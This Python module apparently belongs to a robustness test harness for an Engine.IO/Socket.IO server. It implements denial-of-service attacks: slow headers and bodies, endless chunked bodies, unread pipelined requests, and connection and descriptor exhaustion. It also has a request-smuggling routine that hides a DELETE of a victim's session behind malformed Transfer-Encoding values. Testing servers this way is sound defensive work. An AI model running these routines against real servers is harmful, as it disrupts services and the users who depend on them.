"""Attacks on what reads HTTP: client port, admin port, files, polling."""

import itertools

from engineio_client import target
from speech import (first, forever, http, junk, polling_sid,
                    socketio, texts)
from streams import Stream


# -- answers that nobody reads ------------------------------------------------

def expect_unread(attacker):
    """Pipelined POSTs that want a 100-continue, and read none."""
    def open_stream(_):
        post = http("POST", target("polling", polling_sid(attacker)),
                    "Content-Length: 1", "Expect: 100-continue", body=b"3")
        return Stream(attacker.connect(receive_buffer=4096),
                      forever(post * 100, 100), reads=False)
    attacker.drive(open_stream, 12)


def expect_unread_admin(attacker):
    post = http("POST", "/livez", "Content-Length: 1", "Expect: 100-continue",
                body=b"x")
    attacker.drive(lambda _: Stream(
        attacker.connect(attacker.target["admin_port"], receive_buffer=4096),
        forever(post * 100, 100), reads=False), 12)


def files_unread(attacker):
    get = http("GET", "/big.bin")
    attacker.drive(lambda _: Stream(attacker.connect(receive_buffer=4096),
                                    forever(get * 20, 20), reads=False), 30)


def files_head(attacker):
    head = http("HEAD", "/big.bin")
    attacker.drive(lambda _: Stream(attacker.connect(),
                                    forever(head * 20, 20)), 4)


def files_conditional(attacker):
    with attacker.connect() as connection:
        connection.sendall(http("HEAD", "/big.bin"))
        head = connection.recv(4096).decode("latin1")
    tag = [x.split(": ", 1)[1] for x in head.split("\r\n")
           if x.lower().startswith("etag: ")]
    get = http("GET", "/big.bin", f"If-None-Match: {tag[0] if tag else '*'}")
    attacker.drive(lambda _: Stream(attacker.connect(),
                                    forever(get * 20, 20)), 4)


# -- bodies and headers without an end ------------------------------------------

def endless_body(begin, then):
    def attack(attacker):
        def open_stream(_):
            head = http("POST", target("polling", polling_sid(attacker)),
                        "Transfer-Encoding: chunked")
            return Stream(attacker.connect(), first(head + begin,
                                                    forever(then)))
        attacker.drive(open_stream, 4)
    return attack


chunk_extensions = endless_body(b"1;", b"a" * 65536)
chunk_trailers = endless_body(b"0\r\n", b"x: " + b"y" * 1000 + b"\r\n")
chunk_sizes = endless_body(b"", b"0" * 65536)
chunk_quotes = endless_body(b'1;a="', b'\\"' * 32768)


def chunk_extensions_admin(attacker):
    head = http("POST", "/livez", "Transfer-Encoding: chunked", body=b"1;")
    attacker.drive(lambda _: Stream(
        attacker.connect(attacker.target["admin_port"]),
        first(head, forever(b"a" * 65536))), 4)


def endless_headers(attacker):
    begins = [b"GET /" + b"a" * 60000, b"\r\n" * 30000,
              b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 10000]
    attacker.drive(lambda n: Stream(attacker.connect(),
                                    forever(begins[n % len(begins)])), 6)


def slow_headers(attacker):
    attacker.drive(lambda _: Stream(
        attacker.connect(), first(b"GET / HTTP/1.1\r\nx: ", forever(b"y")),
        interval=0.1), 40)


def slow_bodies(attacker):
    def open_stream(_):
        head = http("POST", target("polling", polling_sid(attacker)),
                    f"Content-Length: {attacker.payload}")
        body = b"4" + b"x" * (attacker.payload - 2000)
        return Stream(attacker.connect(),
                      first(head + body, forever(b"x")), interval=0.1,
                      chunk=CHUNK_OF_BODY)
    attacker.drive(open_stream, 40)


CHUNK_OF_BODY = 16 * 1024


# -- requests in requests -----------------------------------------------------

CODINGS = ["xchunked", "chunked, chunked", "identity", "gzip, chunked",
           "chunked;q=1", "\x0bchunked", "chunked, identity", "", "'chunked'",
           "cow", "chunked\r\nTransfer-Encoding: identity"]


def smuggled(attacker):
    """A DELETE of all bystanders, as the body of a request whose length is told
    by a coding that is none."""
    hidden = http("DELETE", f"/v1/connections/{attacker.target['victim']}")
    for coding in itertools.cycle(CODINGS):
        for port in (attacker.port, attacker.target["admin_port"]):
            for method in ("GET", "POST"):
                data = http(method, "/livez", f"Transfer-Encoding: {coding}",
                            body=hidden)
                send_once(attacker, port, data)
        for hosts in (["Host: b"], []):
            head = "GET / HTTP/1.1\r\n" + "".join(
                f"{x}\r\n" for x in hosts * 2) + "\r\n"
            send_once(attacker, attacker.port, head.encode())


def send_once(attacker, port, data):
    try:
        with attacker.connect(port, timeout=1) as connection:
            connection.sendall(data)
            connection.recv(65536)
    except OSError:
        attacker.count("closed")
    attacker.count("units")
    attacker.pace.wait(len(data), 1)


# -- polling ------------------------------------------------------------------

def polling_sessions(attacker):
    """As many as come out of four TCP connections, with headers to keep."""
    get = http("GET", target("polling"), f"x-kept: {junk(12000)}")
    small = http("GET", target("polling"))
    attacker.drive(lambda n: Stream(attacker.connect(), forever(
        (get if n % 2 else small) * 10, 10)), 4)


def polling_abuse(attacker):
    """Whatever a session does not expect."""
    def requests():
        while True:
            sid = polling_sid(attacker)
            at = target("polling", sid)
            for body in (b"4" * 1000, b"\x1e" * 5000, b"b!!!!", b"9", b"",
                         b"3" + b"\x1e3" * 2000, b'42["join"' * 100,
                         b"b" + b"QUJD" * 1000):
                yield http("POST", at, f"Content-Length: {len(body)}",
                           body=body), 1
            yield http("GET", at) * 3, 3
            yield http("PUT", at) + http("OPTIONS", at), 2
            yield http("GET", target("polling", "%zz")), 1
    attacker.drive(lambda _: Stream(attacker.connect(), requests()), 4)


def huge_sids(attacker):
    size = attacker.target["max_header"] - 1000
    get = http("GET", target("polling", junk(size).replace("+", "_")
                             .replace("/", "-")))
    attacker.drive(lambda _: Stream(attacker.connect(),
                                    forever(get * 4, 4)), 4)


def upgrades(attacker):
    """Sessions that come, join and go."""
    while True:
        try:
            with socketio(attacker) as connection:
                connection.sendall(texts("41"))
        except (OSError, AssertionError):
            attacker.count("failed")
        attacker.count("units")
        attacker.pace.wait(500, 1)


def too_many_connections(attacker, most=400):
    """More than the node takes; those that it takes are held."""
    held = []
    while True:
        try:
            held.append(attacker.connect(timeout=1))
        except OSError:
            attacker.count("failed")
        if len(held) > most:
            held.pop(0).close()
        attacker.count("units")
        attacker.pace.wait(100, 1)


def descriptors(attacker):
    """The node has fewer descriptors than connections that it would take; what
    it closes is opened again."""
    attacker.drive(lambda _: Stream(attacker.connect(timeout=1),
                                    forever(b"G", 0), interval=60), 600)
